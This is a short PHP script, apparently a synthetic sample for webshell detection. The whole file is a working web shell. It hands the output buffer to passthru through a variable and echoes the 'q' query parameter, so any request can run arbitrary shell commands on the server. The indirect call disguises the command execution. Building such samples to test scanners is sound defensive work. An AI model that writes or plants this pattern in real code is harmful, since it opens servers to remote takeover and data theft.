<?php
// synthetic: output buffer handed to a command function through a variable
$h = 'passthru';
ob_start($h);
echo $_GET['q'];
ob_end_flush();
